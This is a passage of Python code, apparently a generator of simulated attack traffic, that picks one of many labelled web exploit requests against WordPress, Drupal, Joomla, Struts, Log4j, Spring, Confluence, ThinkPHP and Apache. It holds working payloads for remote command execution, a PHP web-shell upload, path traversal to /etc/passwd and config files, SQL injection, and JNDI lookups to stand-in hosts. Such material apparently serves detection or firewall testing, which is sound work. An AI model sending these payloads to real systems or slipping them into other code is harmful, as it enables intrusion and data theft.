            "${${lower:j}${lower:n}di:ldap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
            "${jndi:${lower:l}${lower:d}ap://x.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}",
            "${jndi:dns://x.example/a}",
        ]
    )
    options: list[dict[str, Any]] = [
        {
            "technique": "cms/wordpress/xmlrpc-pingback",
            "method": "POST",
            "path": "/xmlrpc.php",
            "headers": {"Content-Type": "text/xml"},
            "body": '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://203.0.113.9/</string></value></param><param><value><string>https://www.example.com/?p=1</string></value></param></params></methodCall>',
        },
        {
            "technique": "cms/wordpress/xmlrpc-multicall",
            "method": "POST",
            "path": "/xmlrpc.php",
            "headers": {"Content-Type": "text/xml"},
            "body": '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member></struct></value></data></array></value></param></params></methodCall>',
        },
        {
            "technique": "cms/wordpress/revslider",
            "method": "GET",
            "path": "/wp-admin/admin-ajax.php",
            "query": "action=revslider_show_image&img=../wp-config.php",
        },
        {
            "technique": "cms/wordpress/file-manager",
            "method": "POST",
            "path": "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
            "headers": {"Content-Type": "multipart/form-data; boundary=----x"},
            "body": '------x\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n------x\r\nContent-Disposition: form-data; name="upload[]"; filename="x.php"\r\n\r\n<?php system($_GET[\'c\']); ?>\r\n------x--',
        },
        {
            "technique": "cms/wordpress/duplicator",
            "method": "GET",
            "path": "/wp-admin/admin-ajax.php",
            "query": "action=duplicator_download&file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        },
        {
            "technique": "cms/wordpress/config-backup",
            "method": "GET",
            "path": rng.choice(
                ["/wp-config.php.bak", "/wp-config.php.save", "/wp-config.php~", "/wp-config.old"]
            ),
        },
        {
            "technique": "cms/drupal/drupalgeddon2",
            "method": "POST",
            "path": "/user/register",
            "query": "element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
            "body": "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
        },
        {
            "technique": "cms/drupal/drupalgeddon2-encoded",
            "method": "POST",
            "path": "/user/register",
            "query": "element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
            "body": "form_id=user_register_form&_drupal_ajax=1&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D=passthru&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D%5B%5D=id",
        },
        {
            "technique": "cms/drupal/drupalgeddon",
            "method": "POST",
            "path": "/user/login",
            "body": "name[0%20;insert%20into%20users%20(uid,name)%20values%20(99,'x');;#%20%20]=test&name[0]=test&pass=test&form_id=user_login_block&op=Log+in",
        },
        {
            "technique": "cms/drupal/rest-rce",
            "method": "POST",
            "path": "/node",
            "query": "_format=hal_json",
            "headers": {"Content-Type": "application/hal+json"},
            "body": '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp\\\\HandlerStack\\":0:{}i:1;s:7:\\"resolve\\";}}s:9:\\"_fn_close\\";a:0:{}}"}],"_links":{"type":{"href":"https://www.example.com/rest/type/shortcut/default"}}}',
        },
        {
            "technique": "cms/joomla/object-injection",
            "method": "GET",
            "path": "/",
            "headers": {
                "User-Agent": '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}}}}}\xf0\xfd\xfd\xfd'
            },
        },
        {
            "technique": "cms/joomla/com-fields-sqli",
            "method": "GET",
            "path": "/index.php",
            "query": "option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)",
        },
        {
            "technique": "cms/struts/cve-2017-5638",
            "method": "GET",
            "path": "/struts2-showcase/index.action",
            "headers": {"Content-Type": "%{(#_='multipart/form-data')." + _OGNL + "}"},
        },
        {
            "technique": "cms/struts/cve-2018-11776",
            "method": "GET",
            "path": "/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action",
        },
        {
            "technique": "cms/struts/cve-2013-2248",
            "method": "GET",
            "path": "/login.action",
            "query": rng.choice(
                [
                    "redirect:http://attacker.example/",
                    "redirectAction:http://attacker.example/%23",
                    "redirect%3Ahttps%3A%2F%2Fattacker.example",
                ]
            ),
        },
        {
            "technique": "cms/struts/cve-2013-2251",
            "method": "GET",
            "path": "/index.action",
            "query": "action:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%2C%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D",
        },
        {
            "technique": "cms/struts/cve-2017-9805",
            "method": "POST",
            "path": "/struts2-rest-showcase/orders/3",
            "headers": {"Content-Type": "application/xml"},
            "body": '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>id</string></command></next></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>',
        },
        {
            "technique": "cms/october/file-inclusion",
            "method": "GET",
            "path": rng.choice(
                [
                    "/combine/..%2f..%2f..%2fconfig%2fdatabase.php",
                    "/backend/cms/media?file=../../../../config/app.php",
                ]
            ),
        },
        {
            "technique": "cms/log4j",
            "method": "GET",
            "path": "/",
            "headers": {
                rng.choice(["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"]): jndi
            },
        },
        {
            "technique": "cms/log4j-query",
            "method": "GET",
            "path": "/search",
            "query": "q=" + jndi.replace("{", "%7B").replace("}", "%7D"),
        },
        {
            "technique": "cms/spring4shell",
            "method": "POST",
            "path": "/index",
            "body": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        },
        {
            "technique": "cms/confluence/cve-2022-26134",
            "method": "GET",
            "path": "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
        },
        {
            "technique": "cms/phpunit/eval-stdin",
            "method": "POST",
            "path": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "body": "<?php echo md5('phpunit'); ?>",
        },
        {
            "technique": "cms/thinkphp/invokefunction",
            "method": "GET",
            "path": "/index.php",
            "query": "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        },
        {
            "technique": "cms/apache/cve-2021-41773",
            "method": "GET",
            "path": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        },
    ]
    return dict(rng.choice(options))
